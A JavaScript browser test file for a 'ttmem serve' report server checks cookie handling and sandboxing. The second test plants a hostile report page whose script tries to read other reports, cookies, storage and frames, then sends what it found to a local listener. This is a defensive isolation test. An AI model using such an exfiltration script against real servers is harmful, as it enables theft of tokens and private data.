// SPDX-License-Identifier: Apache-2.0
// Reports of `ttmem serve` in a real browser: all of the page works in its sandbox, and the page of a stranger neither reads another one nor learns the token.
import assert from "node:assert/strict";
import { execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { writeFileSync } from "node:fs";
import http from "node:http";
import { join } from "node:path";
import { test } from "node:test";
import { openServed, saved, SOURCE, TTMEM, work } from "./lib.mjs";

const home = join(work, "home");
const env = { ...process.env, TTMEM_HOME: home };
const log = join(SOURCE, "tests/cli/data/two_runs_oom_profile.log");
execFileSync(TTMEM, ["analyze", log, "-q", "--name", "good"], { env });
execFileSync(TTMEM, ["analyze", log, "-q", "--name", "evil"], { env });

async function withServer(use) {
  const server = spawn(TTMEM, ["serve", "--port", "0"], { env, stdio: ["ignore", "pipe", "ignore"] });
  try {
    const [line] = await once(server.stdout, "data");
    await use(String(line).trim());
  } finally {
    server.kill();
  }
}

test("the token becomes a cookie, and the page works in its sandbox", async () => {
  await withServer(async (url) => {
    const { page, context, problems } = await openServed(`${url}good/`);
    const token = new URL(url).pathname.slice(1, -1);
    assert.equal(page.url(), `${new URL(url).origin}/good/`);
    await page.waitForFunction(() => document.documentElement.dataset.ready === "true");
    const [cookie] = await context.cookies();
    assert.deepEqual([cookie.value, cookie.httpOnly, cookie.sameSite], [token, true, "Strict"]);
    assert.equal(await page.evaluate(() => window.origin), "null");
    // Its parts: a link to a view, saved pictures and tables, print, theme.
    await page.goto(`${new URL(url).origin}/good/#op=3`);
    await page.waitForFunction(() => document.documentElement.dataset.ready === "true");
    for (const kind of ["svg", "png", "csv"]) {
      const { content } = await saved(page, page.locator(`[data-save=${kind}]`).first());
      assert.ok(content.length > 50, kind);
    }
    await page.evaluate(() => {
      document.documentElement.dataset.printed = "";
      window.addEventListener("beforeprint", () => (document.documentElement.dataset.printed = "yes"));
    });
    await page.evaluate(() => window.print());
    assert.equal(await page.evaluate(() => document.documentElement.dataset.printed), "yes");
    await page.reload();
    await page.waitForFunction(() => document.documentElement.dataset.ready === "true");
    assert.match(page.url(), /#.*op=3/);
    assert.deepEqual(problems, []);
    await context.close();
  });
});

test("the page of a stranger reads no other report and leaks no token", async () => {
  const leaked = [];
  const listener = http.createServer((request, response) => {
    leaked.push(decodeURIComponent(request.url) + JSON.stringify(request.headers));
    response.end("");
  });
  await new Promise((done) => listener.listen(0, "127.0.0.1", done));
  const evil = `http://127.0.0.1:${listener.address().port}/`;
  writeFileSync(join(home, "reports/evil/evil_report.html"), `<!doctype html><title>evil</title><script>
    const said = {};
    const note = (name, value) => { said[name] = String(value); };
    (async () => {
      for (const path of ["../good/", "../good/good_findings.json", "/metrics"])
        await fetch(path, { credentials: "include" }).then((r) => r.text()).then((t) => note(path, t), (e) => note(path, "refused " + e));
      try { note("cookie", document.cookie); } catch (e) { note("cookie", "refused " + e); }
      try { note("storage", localStorage.length); } catch (e) { note("storage", "refused " + e); }
      try { note("popup", window.open("../good/")); } catch (e) { note("popup", "refused " + e); }
      const frame = document.createElement("iframe");
      frame.src = "../good/";
      document.documentElement.append(frame);
      await new Promise((done) => setTimeout(done, 500));
      try { note("frame", frame.contentDocument && frame.contentDocument.body.innerText); } catch (e) { note("frame", "refused " + e); }
      note("referrer", document.referrer);
      location = "${evil}?" + encodeURIComponent(JSON.stringify(said) + location.href);
    })();
  </script>`);
  try {
    await withServer(async (url) => {
      const token = new URL(url).pathname.slice(1, -1);
      const { page, context } = await openServed(`${url}evil/`);
      await page.waitForURL((at) => at.href.startsWith(evil));
      assert.equal(leaked.length > 0, true);
      const said = JSON.parse(/\?(\{.*?\})http/.exec(leaked[0])[1]);
      for (const name of ["../good/", "../good/good_findings.json", "/metrics", "cookie", "storage"]) assert.match(said[name], /^refused/, name);
      assert.equal(said.popup, "null");
      assert.match(said.frame, /^(null|refused.*)$/);
      assert.equal(said.referrer, "");
      assert.ok(!leaked.join().includes(token), "the token");
      await context.close();
    });
  } finally {
    listener.close();
  }
});
